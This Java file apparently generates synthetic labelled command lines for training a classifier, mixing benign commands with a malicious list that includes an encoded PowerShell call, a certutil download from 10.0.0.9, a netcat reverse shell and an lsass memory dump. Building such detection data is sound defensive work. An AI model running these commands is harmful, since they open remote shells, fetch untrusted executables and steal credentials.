package dev.longtail.training.classify;

import dev.longtail.training.data.Arm;
import dev.longtail.training.data.Label;
import dev.longtail.training.data.LabelledCommand;
import dev.longtail.training.data.TrainingSet;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

/** Invented lines that a classifier can learn, but not at a glance. */
public final class Lines {
  private static final List<String> BENIGN =
      List.of("git status", "ls -la /srv/app", "msbuild /m app.sln", "tar czf backup.tgz data");
  private static final List<String> MALICIOUS =
      List.of(
          "powershell -enc SQBFAFgA", "certutil -urlcache -f http://10.0.0.9/a a.exe",
          "nc -e /bin/sh 10.0.0.9 4444", "procdump -ma lsass.exe out");

  private Lines() {}

  /** {@code count} different lines, a third of them malicious, the same for the same seed. */
  public static List<LabelledCommand> draw(int count, long seed) {
    Random random = new Random(seed);
    Map<String, Label> lines = new TreeMap<>();
    while (lines.size() < count) {
      boolean malicious = random.nextInt(3) == 0;
      List<String> stems = malicious ? MALICIOUS : BENIGN;
      String line =
          stems.get(random.nextInt(stems.size()))
              + " "
              + Integer.toString(random.nextInt(Integer.MAX_VALUE), 36)
              + (random.nextInt(4) == 0 ? " --quiet" : "");
      lines.put(line, malicious ? Label.MALICIOUS : Label.BENIGN);
    }
    List<LabelledCommand> rows = new ArrayList<>();
    lines.forEach((cmd, label) -> rows.add(new LabelledCommand(cmd, label)));
    return rows;
  }

  static TrainingSet set(int count, long seed) {
    return new TrainingSet(
        "ab", "ab", Arm.BASE, draw(count, seed), 0, 0, 0, new TrainingSet.Overlap(0, 0));
  }
}
